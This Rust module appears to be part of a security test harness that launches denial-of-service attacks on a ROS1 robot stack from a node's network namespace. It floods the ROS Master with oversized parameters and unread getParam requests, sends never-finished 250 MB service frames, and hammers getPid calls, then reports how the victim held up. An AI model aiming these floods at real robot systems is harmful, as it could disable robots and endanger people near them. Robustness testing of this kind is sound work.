//! Attacks that a servant's nodes can make, from the servant's network namespace.

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use ros::ros1::process::MASTER;
use ros::ros1::xmlrpc::Value;
use serde_json::json;
use support::robot::Robot;

use crate::Victim;

/// Timeout of everything that is not an attack.
pub(crate) const PATIENCE: Duration = Duration::from_secs(60);
const PARAMETERS: usize = 60;
const READERS: usize = 30;
const FRAMES: usize = 8;
const FRAME: u32 = 250 << 20;

fn connect(to: SocketAddr) -> Result<TcpStream> {
    let stream = TcpStream::connect(to)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// Sets parameters and requests all of them repeatedly without reading the responses.
pub(crate) fn flood_parameters(victim: &Victim) -> Result<String> {
    let value = "x".repeat(1_000_000);
    let is_refused = |number: &usize| {
        let told = victim.call_master("setParam", &[&format!("/attack/p{number}"), &value]);
        !told.is_ok_and(|told| told.as_array().is_some_and(|told| told.first().and_then(Value::as_int) == Some(1)))
    };
    let refused = (0..PARAMETERS).filter(is_refused).count();
    let parameters = ["/attacker", "/"].map(|text| format!("<param><value><string>{text}</string></value></param>"));
    let body = format!(
        "<?xml version=\"1.0\"?><methodCall><methodName>getParam</methodName><params>{}</params></methodCall>",
        parameters.concat()
    );
    let request = format!("POST / HTTP/1.1\r\nHost: master\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    victim.network.run(|| {
        let mut unread = Vec::new();
        for _ in 0..READERS {
            let mut stream = connect(MASTER)?;
            stream.write_all(request.as_bytes())?;
            stream.set_nonblocking(true)?;
            unread.push(stream);
        }
        // Waits until one of the requests is being answered, and a little longer.
        let until = Instant::now() + PATIENCE;
        let answered = |stream: &TcpStream| stream.peek(&mut [0]).is_ok_and(|read| read > 0);
        while Instant::now() < until && !unread.iter().any(answered) {
            std::thread::sleep(Duration::from_millis(50));
        }
        std::thread::sleep(Duration::from_secs(3));
        let count = unread.iter().filter(|stream| answered(stream)).count();
        Ok(format!("{refused} of {PARAMETERS} parameters were refused, {count} of {READERS} answers begun"))
    })?
}

/// Calls a service of the robot with requests that never end.
pub(crate) fn send_unfinished_requests(victim: &Victim, robot: &mut Robot) -> Result<String> {
    let service_type = robot.call("/rosapi/service_type", json!({"service": "/add_two"}))?;
    robot.send(json!({
        "op": "advertise_service", "service": "/attacked", "type": service_type["values"]["type"],
    }))?;
    // The service is registered by the time this call is answered.
    robot.call("/rosapi/services", json!({}))?;
    let told = victim.call_master("lookupService", &["/attacked"])?;
    let uri = told.as_array().and_then(|told| told.get(2)?.as_str()).with_context(|| format!("{told:?}"))?;
    let port = uri.trim_end_matches('/').rsplit(':').next().context("a port")?;
    let to = SocketAddr::from((Ipv4Addr::LOCALHOST, port.parse()?));
    victim.network.run(|| {
        let results: Vec<_> = std::thread::scope(|scope| {
            let frames: Vec<_> = (0..FRAMES).map(|_| scope.spawn(move || send_unfinished_request(to))).collect();
            frames.into_iter().map(|frame| frame.join()).collect()
        });
        let mut sent = Vec::new();
        for result in results {
            sent.push(result.map_err(|_| anyhow::anyhow!("an attacker panicked"))??);
        }
        let whole = sent.iter().filter(|(sent, _)| *sent == FRAME - 1).count();
        Ok(format!("{} of {FRAMES} connections were closed", FRAMES - whole))
    })?
}

/// Sends all bytes of a request except the last; returns how many were accepted, and the connection.
fn send_unfinished_request(to: SocketAddr) -> Result<(u32, TcpStream)> {
    let mut stream = connect(to)?;
    let mut header = Vec::new();
    for field in ["callerid=/attacker", "service=/attacked", "md5sum=*"] {
        header.extend_from_slice(&u32::try_from(field.len())?.to_le_bytes());
        header.extend_from_slice(field.as_bytes());
    }
    stream.write_all(&u32::try_from(header.len())?.to_le_bytes())?;
    stream.write_all(&header)?;
    let mut length = [0; 4];
    stream.read_exact(&mut length)?;
    stream.read_exact(&mut vec![0; u32::from_le_bytes(length) as usize])?;
    stream.write_all(&FRAME.to_le_bytes())?;
    let chunk = vec![7; 1 << 20];
    let mut sent = 0;
    while sent < FRAME - 1 {
        let next = chunk.len().min((FRAME - 1 - sent) as usize);
        match stream.write(&chunk[..next]) {
            Ok(written) => sent += u32::try_from(written)?,
            Err(_) => break,
        }
    }
    Ok((sent, stream))
}

/// Sends small requests to the Master for `time` from four connections.
pub(crate) fn drive_master(victim: &Victim, time: Duration) -> Result<()> {
    let until = Instant::now() + time;
    let asks = async || -> Result<()> {
        while Instant::now() < until {
            victim.master.call("getPid", &["/attacker".into()], PATIENCE).await?;
        }
        Ok(())
    };
    victim.runtime.block_on(async { tokio::try_join!(asks(), asks(), asks(), asks()) })?;
    Ok(())
}
